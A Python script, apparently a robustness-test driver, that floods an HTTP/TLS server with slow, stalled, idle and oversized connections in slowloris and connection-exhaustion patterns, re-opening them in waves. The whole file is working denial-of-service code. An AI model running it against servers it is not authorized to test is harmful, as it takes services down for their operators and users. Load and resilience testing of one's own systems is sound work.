#!/usr/bin/env python3
"""Connections of somebody who means no good: many, held for as long as they are let, and made anew.

    attack.py KIND HOST PORT [SECONDS]

Prints "up" when the first of them have been made, "again" with each further wave, and ends when its standard input
does. Those that are ended come again within a second, or with the next wave where there are waves; after a line on
standard input they do no more. SECONDS are between two waves, in place of each kind's own; 0: nobody comes again. Kinds:

    promises   26 over TLS that promise bodies of 64 MiB in all, and send none; a wave each 8 seconds
    idle       300 over TLS that ask once and stay
    crowd      1200 of these, which is more than there are places
    silent     500 that say nothing at all; a wave each 10 seconds
    bodies     500 over TLS that send a byte of a body each second
    stuffed    900 over TLS that send bodies of 64 KiB but for the last byte
    stalled    500 that send the beginning of a handshake, and no more; a wave each 10 seconds
    plain      40 without TLS, every other one of which asks once; they stay
"""

import resource
import selectors
import socket
import ssl
import sys
import time

# A busy machine takes long for a thousand handshakes.
PATIENCE_S = 120

HEAD = b"POST /validate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
GET = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
# How many, TLS, what each says at first, and after how many seconds there is another wave.
KINDS = {
    "promises": (26, True, lambda _: HEAD % ((64 << 20) // 26), 8),
    "idle": (300, True, lambda _: GET, 0),
    "crowd": (1200, True, lambda _: GET, 0),
    "silent": (500, False, lambda _: b"", 10),
    "bodies": (500, True, lambda _: HEAD % 20000 + b"{", 0),
    "stuffed": (900, True, lambda _: HEAD % 65536 + b" " * 65535, 0),
    "stalled": (500, False, lambda _: b"\x16\x03\x01\x02", 10),
    "plain": (40, False, lambda number: GET if number % 2 else b"", 0),
}


class Attack:
    def __init__(self, kind, host, port, period=None):
        self.count, self.tls, self.greeting, self.period = KINDS[kind]
        self.refills = not self.period and period != 0
        if period is not None:
            self.period = period
        self.trickles, self.target = kind == "bodies", (host, port)
        self.selector = selectors.DefaultSelector()
        self.context = ssl.create_default_context()
        self.context.check_hostname, self.context.verify_mode = False, ssl.CERT_NONE
        self.greeted, self.unsent = set(), {}

    def open(self, number):
        stream = socket.socket()
        stream.setblocking(False)
        stream.connect_ex(self.target)
        self.selector.register(stream, selectors.EVENT_WRITE, number)

    def close(self, stream):
        self.selector.unregister(stream)
        self.greeted.discard(stream)
        self.unsent.pop(stream, None)
        stream.close()

    def step(self, stream, number):
        """Goes on with a handshake, or greets, or hears; what ends is gone until the next wave."""
        try:
            if stream in self.greeted:
                if not stream.recv(65536):
                    self.close(stream)
                return
            if self.tls and not isinstance(stream, ssl.SSLSocket):
                self.selector.unregister(stream)
                stream = self.context.wrap_socket(stream, do_handshake_on_connect=False)
                self.selector.register(stream, selectors.EVENT_READ, number)
            if self.tls:
                stream.do_handshake()
            left = self.unsent.setdefault(stream, self.greeting(number))
            self.unsent[stream] = left[stream.send(left):]
            if self.unsent[stream]:
                self.selector.modify(stream, selectors.EVENT_READ | selectors.EVENT_WRITE, number)
                return
            self.greeted.add(stream)
            self.selector.modify(stream, selectors.EVENT_READ, number)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            pass
        except OSError:
            self.close(stream)

    def wave(self):
        for key in list(self.selector.get_map().values()):
            if key.fileobj is not sys.stdin:
                self.close(key.fileobj)
        for number in range(self.count):
            self.open(number)

    def trickle(self):
        for stream in list(self.greeted):
            try:
                stream.send(b" ")
            except (ssl.SSLWantWriteError, BlockingIOError):
                pass
            except OSError:
                self.close(stream)

    def refill(self):
        """Those that were ended come again."""
        there = {key.data for key in self.selector.get_map().values()}
        for number in set(range(self.count)) - there:
            self.open(number)

    def run(self):
        self.selector.register(sys.stdin, selectors.EVENT_READ, None)
        self.wave()
        began = trickled = time.monotonic()
        up = False
        while True:
            for key, _ in self.selector.select(0.1):
                if key.fileobj is sys.stdin:
                    if not sys.stdin.readline():
                        return
                    self.refills = False
                    continue
                self.step(key.fileobj, key.data)
            now = time.monotonic()
            due = self.period and now - began >= self.period
            # Some may be given up before they have greeted: then it is as up as it gets.
            if not up and (len(self.greeted) >= len(self.selector.get_map()) - 1 or due or now - began > PATIENCE_S):
                up = True
                print("up", flush=True)
            if due:
                self.wave()
                began = now
                print("again", flush=True)
            if now - trickled >= 1:
                trickled = now
                if self.trickles:
                    self.trickle()
                if self.refills:
                    self.refill()


if __name__ == "__main__":
    if not 4 <= len(sys.argv) <= 5 or sys.argv[1] not in KINDS:
        sys.exit(__doc__)
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(limit[1], 4096), limit[1]))
    try:
        Attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), *map(float, sys.argv[4:])).run()
    except KeyboardInterrupt:
        pass
